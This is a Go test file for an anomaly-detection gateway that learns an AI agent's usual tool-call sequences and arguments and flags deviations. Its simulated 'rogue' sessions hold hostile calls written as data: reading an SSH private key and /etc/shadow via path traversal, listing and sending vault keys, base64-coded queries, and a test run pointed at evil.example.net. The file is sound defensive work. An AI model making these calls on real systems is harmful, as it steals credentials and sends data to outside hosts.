package habit

import (
	"fmt"
	"maps"
	"math"
	"math/rand/v2"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"bartizan/internal/mcp"
)

func standard() Config {
	return Config{Learn: 200, Window: 8, Threshold: 3, Arguments: true, Idle: time.Hour, Once: true}
}

// agent is one agent's client: a gateway for each server, which know of each other only
// what the folder has.
type agent struct {
	*testing.T
	r     *rand.Rand
	conf  Config
	dir   string
	gates map[string]*Habit
	clock time.Time
	talks int
}

func newAgent(t *testing.T, c Config, seed uint64) *agent {
	return &agent{T: t, r: rand.New(rand.NewPCG(seed, 2)), conf: c, dir: t.TempDir(), gates: map[string]*Habit{}, clock: time.Date(2026, 11, 28, 9, 0, 0, 0, time.UTC)}
}

// call is one call of a simulated agent.
type call struct{ tool, args string }

// session plays a conversation and returns what was said of it.
func (a *agent) session(calls []call) (said []string) {
	a.Helper()
	a.talks++
	for i := range calls {
		said = append(said, a.one(fmt.Sprint("client ", a.talks), calls[i])...)
	}
	return said
}

func (a *agent) one(talk string, c call) []string {
	a.Helper()
	server, name, _ := strings.Cut(c.tool, "/")
	h := a.gates[server]
	if h == nil {
		var err error
		if h, err = Open(a.conf, a.dir, "a"); err != nil {
			a.Fatal(err)
		}
		a.gates[server] = h
	}
	power, err := mcp.ToolPower(mcp.Tool{Name: name, Raw: []byte(`{}`)})
	if err != nil {
		a.Fatal(err)
	}
	a.clock = a.clock.Add(time.Second)
	v, err := h.Step(Call{Talk: talk, Server: server, Tool: name, Power: power, Args: []byte(c.args), Time: a.clock})
	if err != nil {
		a.Fatal(err)
	}
	if v.Learning && len(v.Unusual) > 0 {
		a.Fatalf("an alarm while learning: %v", v.Unusual)
	}
	return v.Unusual
}

// end closes the gateways; the next calls begin new ones.
func (a *agent) end() {
	a.Helper()
	for _, h := range a.gates {
		if err := h.Close(); err != nil {
			a.Fatal(err)
		}
	}
	clear(a.gates)
}

func (a *agent) words(n int) string {
	list := strings.Fields("error of the node when a decoy ends before its visitor does and nobody reads what it has said about keys")
	var out []string
	for range n {
		out = append(out, list[a.r.IntN(len(list))])
	}
	return strings.Join(out, " ")
}

func quote(s string) string { return string(mcp.Quote(s)) }

// The usual calls, with what varies about them.
func (a *agent) search() call {
	args := `{"query":` + quote(a.words(1+a.r.IntN(8)))
	if a.r.IntN(4) == 0 {
		args += fmt.Sprintf(`,"limit":%d`, 5+a.r.IntN(100))
	}
	return call{"files/search_files", args + "}"}
}

func (a *agent) read() call {
	path := "/srv/project/" + []string{"cmd/a.go", "internal/x/y.go", "docs/a.md", "go.mod", ".github/workflows/ci.yml"}[a.r.IntN(5)]
	if a.r.IntN(3) == 0 {
		return call{"files/read_file", fmt.Sprintf(`{"path":%q,"head":%d}`, path, a.r.IntN(500))}
	}
	return call{"files/read_file", fmt.Sprintf(`{"path":%q}`, path)}
}

func (a *agent) edit() call {
	n := int(math.Exp(3 + 1.2*a.r.NormFloat64())) // words
	return call{"files/edit_file", fmt.Sprintf(`{"path":"/srv/project/a%d.go","edits":[{"old":%s,"new":%s}],"dry":%v}`, a.r.IntN(50), quote(a.words(5)), quote(a.words(1+min(n, 2000))), a.r.IntN(2) == 0)}
}

func (a *agent) fetch() call {
	return call{"web/fetch", fmt.Sprintf(`{"url":"https://docs%d.example.org/%s"}`, int(a.r.ExpFloat64()*10), a.words(1))}
}

func (a *agent) test() call {
	return call{"ci/run_tests", `{"target":"./...","remote":"https://ci.example.com/run"}`}
}

func (a *agent) mail() call {
	return call{"mail/send_mail", fmt.Sprintf(`{"to":"info@customer%d.example","subject":%s,"body":%s}`, int(a.r.ExpFloat64()*15), quote(a.words(4)), quote(a.words(30+a.r.IntN(60))))}
}

func (a *agent) customer() call {
	return call{"crm/get_customers", fmt.Sprintf(`{"id":%d}`, a.r.IntN(10000))}
}

// coding and support are what the agent does all day.
func (a *agent) coding(n int) (out []call) {
	for len(out) < n {
		out = append(out, a.search())
		for range 1 + a.r.IntN(3) {
			out = append(out, a.read())
		}
		switch a.r.IntN(4) {
		case 0:
			out = append(out, a.edit(), a.test())
		case 1:
			out = append(out, a.edit(), a.read(), a.edit(), a.test())
		case 2:
			out = append(out, a.fetch())
		}
	}
	return out[:n]
}

func (a *agent) support(n int) (out []call) {
	for len(out) < n {
		out = append(out, a.customer())
		if a.r.IntN(2) == 0 {
			out = append(out, call{"crm/add_note", `{"text":` + quote(a.words(10)) + `}`})
		}
		out = append(out, a.mail())
	}
	return out[:n]
}

func (a *agent) usual() []call {
	if a.r.IntN(3) == 0 {
		return a.support(20 + a.r.IntN(20))
	}
	return a.coding(20 + a.r.IntN(20))
}

func (a *agent) learn() {
	a.Helper()
	for calls, n := 0, 0; calls < a.conf.Learn; n++ {
		s := a.coding(20 + a.r.IntN(20))
		if n%3 == 1 {
			s = a.support(20 + a.r.IntN(20))
		}
		a.session(s[:min(len(s), a.conf.Learn-calls)])
		calls += len(s)
		a.end()
	}
}

// TestBaseline plays agents whose servers have a gateway process each, first at their
// usual work, then as somebody else would use them.
func TestBaseline(t *testing.T) {
	for _, learn := range []int{200, 1000} {
		t.Run(fmt.Sprint(learn, " calls"), func(t *testing.T) { simulate(t, learn) })
	}
}

func simulate(t *testing.T, learn int) {
	agents, sessions := 4, 10 // of each kind
	if learn > 200 {
		agents, sessions = 2, 20 // learning is what takes long
	}
	rogue := map[string]func(a *agent) []call{
		"unknown tools": func(a *agent) []call {
			out := a.coding(10)
			for _, x := range []string{"list_keys", "read_key", "list_keys", "read_key", "send", "send", "send", "send"} {
				out = append(out, call{"vault/" + x, "{}"})
			}
			return out
		},
		"random order": func(a *agent) (out []call) {
			for range 40 {
				out = append(out, []func() call{a.search, a.read, a.edit, a.test, a.mail, a.customer, a.fetch}[a.r.IntN(7)]())
			}
			return out
		},
		"read at one server, send at another": func(a *agent) []call { return append(a.coding(10), a.read(), a.mail()) },
		"a little later": func(a *agent) []call {
			return append(append(a.coding(10), a.read()), append(a.support(3)[2:], a.mail())...)
		},
		"a file elsewhere": func(a *agent) []call {
			return append(a.coding(10), call{"files/read_file", `{"path":"/home/ann/.ssh/id_ed25519"}`})
		},
		"a file above": func(a *agent) []call {
			return append(a.coding(10), call{"files/read_file", `{"path":"../../etc/shadow"}`})
		},
		"a new argument": func(a *agent) []call {
			return append(a.coding(10), call{"files/read_file", `{"path":"/srv/project/go.mod","follow":true}`})
		},
		"a long query": func(a *agent) []call {
			return append(a.coding(10), call{"files/search_files", `{"query":` + quote(a.words(800)) + `}`})
		},
		"a coded query": func(a *agent) []call {
			return append(a.coding(10), call{"files/search_files", `{"query":"` + strings.Repeat("TWFueSBoYW5kcyBtYWtl", 10) + `"}`})
		},
		"another kind": func(a *agent) []call {
			return append(a.coding(10), call{"files/read_file", `{"path":["/srv/project/go.mod"]}`})
		},
		"another host": func(a *agent) []call {
			return append(a.coding(10), call{"ci/run_tests", `{"target":"./...","remote":"https://evil.example.net/run"}`})
		},
	}
	wrong, found := 0, map[string]int{}
	for seed := range agents {
		a := newAgent(t, standard(), uint64(seed))
		a.conf.Learn = learn
		a.learn()
		for range 4 * sessions {
			if said := a.session(a.usual()); len(said) > 0 {
				wrong++
				t.Logf("usual: %q", said[0])
			}
			a.end()
		}
		for _, name := range slices.Sorted(maps.Keys(rogue)) { // in an order that does not change: the seed says what happens
			for range sessions {
				if said := a.session(rogue[name](a)); len(said) > 0 {
					found[name]++
				}
				a.forget()
			}
		}
	}
	t.Logf("%d calls learned: %d of %d usual sessions flagged; found of %d each: %v", learn, wrong, 4*sessions*agents, sessions*agents, found)
	if wrong > 4*sessions*agents*3/100 {
		t.Errorf("%d usual sessions are flagged", wrong)
	}
	for name := range rogue {
		least := 38
		switch {
		case name == "read at one server, send at another" || name == "a little later" || name == "unknown tools":
			least = 40
		case learn < 1000 && name != "random order":
			least = 0 // not every argument is well known after so few calls
		}
		if found[name] < least {
			t.Errorf("%s: %d of 40 found", name, found[name])
		}
	}
}

// forget lets everything be said again: each session is judged as the first of its kind.
func (a *agent) forget() {
	a.Helper()
	for _, h := range a.gates {
		if err := h.recent.with("", a.clock, func(_ *talk, m *marks) { *m = nil }); err != nil {
			a.Fatal(err)
		}
	}
}

// TestLearnTogether: gateways that live for a few calls learn as one that lives long.
func TestLearnTogether(t *testing.T) {
	a := newAgent(t, standard(), 7)
	for n := 0; n < 200; n++ {
		a.one("one client", []func() call{a.read, a.test, a.search}[n%3]())
		if n%4 == 3 {
			a.end()
		}
	}
	a.end()
	h, err := Open(a.conf, a.dir, "a")
	if err != nil || h.state.Calls != 200 || h.state.Counts["files/read_file"]["ci/run_tests"] < 60 || h.state.Counts["ci/run_tests"]["files/search_files"] < 60 {
		t.Fatalf("%+v %v", h.state.Counts, err)
	}
	if said := a.session([]call{a.read(), a.test(), a.search(), a.read(), a.test(), a.search(), a.read(), a.test(), a.search()}); len(said) > 0 {
		t.Errorf("the usual: %q", said)
	}
	if said := a.session([]call{a.test(), a.test(), a.test(), a.test(), a.test(), a.test(), a.test(), a.test(), a.test()}); len(said) == 0 {
		t.Error("an order that nobody knows is not seen")
	}
	// One that was open while the others learned the rest does not go on learning.
	old, err := Open(a.conf, a.dir, "late")
	if err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(filepath.Join(a.dir, "baseline-a.json"))
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(a.dir, "baseline-late.json"), data, 0o600); err != nil {
		t.Fatal(err)
	}
	if v, err := old.Step(Call{Server: "files", Tool: "read_file", Time: a.clock}); err != nil || v.Learning {
		t.Errorf("%+v %v", v, err)
	}
}

// TestNothingIsKept: no value of an argument is in any file, and a secret in the place of a
// name is not either.
func TestNothingIsKept(t *testing.T) {
	a := newAgent(t, standard(), 3)
	key := "AKIA" + "Q3EGRIT7ZX5KLM2P"
	args := `{"path":"/srv/zanzibar/x","url":"https://quagga.example/y","mail":"ann@okapi.example","text":"the word is xylophone","list":["/home/marzipan/z"],"` + key + `":{"inner":"tamarind"}}`
	for range 20 {
		a.session([]call{{"s/get_users", args}, {"t/send", args}})
	}
	a.end()
	all, err := filepath.Glob(filepath.Join(a.dir, "*"))
	if err != nil || len(all) < 2 {
		t.Fatal(all, err)
	}
	for _, name := range all {
		data, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		for _, value := range []string{"zanzibar", "quagga", "okapi", "xylophone", "marzipan", "tamarind", "ann@", key} {
			if strings.Contains(string(data), value) {
				t.Errorf("%s has %s", name, value)
			}
		}
	}
}

// TestSaidOnce: what is new is said once where it is only said, and each time where it is
// stopped, until a person lets it pass.
func TestSaidOnce(t *testing.T) {
	for _, once := range []bool{true, false} {
		c := standard()
		c.Learn, c.Once = 40, once
		a := newAgent(t, c, 5)
		for range 40 {
			a.one("x", a.read())
		}
		h := a.gates["files"]
		step := func() Verdict {
			v, err := h.Step(Call{Talk: "y", Server: "files", Tool: "read_file", Args: []byte(`{"path":"/etc/shadow"}`), Time: a.clock})
			if err != nil {
				t.Fatal(err)
			}
			return v
		}
		first, second := step(), step()
		if len(first.Unusual) != 1 || (len(second.Unusual) == 0) != once {
			t.Errorf("%v, %v", first, second)
		}
		if err := h.Accept("y", a.clock, first.Marks); err != nil {
			t.Fatal(err)
		}
		if v := step(); len(v.Unusual) > 0 {
			t.Errorf("a person let it pass: %v", v)
		}
	}
}

// TestCardinality: neither names of tools nor those of arguments nor addresses make the
// files grow without an end, and an argument with many of them is not judged by it.
func TestCardinality(t *testing.T) {
	c := standard()
	c.Learn = 2*maxTools + 200
	a := newAgent(t, c, 1)
	for i := range c.Learn / 2 {
		args := fmt.Sprintf(`{"url":"https://h%d.example%d.com/","n%d":1,"o":{"p%d":{"q%d":[1,[2,[3,[4]]]]}}}`, i, i, i, i, i)
		a.one(fmt.Sprint("client ", i%100), call{fmt.Sprintf("s%d/get_users%d", i%40, i%(2*maxTools)), args})
		a.one(fmt.Sprint("client ", i%100), call{"web/send", args})
	}
	a.end()
	h, err := Open(c, a.dir, "a")
	if err != nil {
		t.Fatal(err)
	}
	st := &h.state
	if len(st.Tools) > maxTools || len(st.Counts) > maxTools+2 || st.room() < 0 || len(st.Flows) > maxFlows || len(st.Shapes) > maxTools {
		t.Errorf("%d tools, %d rows, room for %d arguments, %d ways", len(st.Tools), len(st.Counts), st.room(), len(st.Flows))
	}
	sh := st.Shapes["web/send"]
	if sh == nil || len(sh.Slots) > maxSlots || !sh.Wide || len(sh.Slots["url"].Places) > maxPlaces {
		t.Fatalf("%+v", sh)
	}
	if news := sh.news(features([]byte(`{"url":"https://another.example.org/","another":1}`))); len(news) > 0 {
		t.Errorf("%v", news)
	}
	for name, limit := range map[string]int64{"baseline-a.json": 4 << 20, "recent-a.bin": 2 * (header + maxRecord)} {
		if st, err := os.Stat(filepath.Join(a.dir, name)); err != nil || st.Size() > limit {
			t.Errorf("%s: %v %v", name, st, err)
		}
	}
	if err := h.recent.with("z", a.clock, func(*talk, *marks) {}); err != nil || len(h.recent.own.Talks) > maxTalks {
		t.Errorf("%d conversations, %v", len(h.recent.own.Talks), err)
	}
}

// TestDamaged: what is damaged is said, and never taken for what is usual.
func TestDamaged(t *testing.T) {
	for _, text := range []string{"{}", "", "x", `{"counts":{},"tools":{},"shapes":{"x":null}}`, `{"counts":{},"tools":{},"shapes":{"x":{"slots":{"y":null}}}}`} {
		dir := t.TempDir()
		if err := os.WriteFile(filepath.Join(dir, "baseline-a.json"), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		if _, err := Open(standard(), dir, "a"); err == nil {
			t.Errorf("%q is taken", text)
		}
	}
	// One of a version that did not learn ways and shapes judges the order of tools only.
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "baseline-a.json"), []byte(`{"calls":200,"counts":{"^":{"a/get_users":9}},"tools":{"a/get_users":true,"b/send_mail":true},"sum":10,"of":10}`), 0o600); err != nil {
		t.Fatal(err)
	}
	h, err := Open(standard(), dir, "a")
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []Call{{Server: "a", Tool: "get_users", Power: mcp.Private}, {Server: "b", Tool: "send_mail", Power: mcp.Out, Args: []byte(`{"x":1}`)}} {
		if v, err := h.Step(c); err != nil || len(v.Unusual) > 0 || v.Learning {
			t.Errorf("%+v %v", v, err)
		}
	}
}
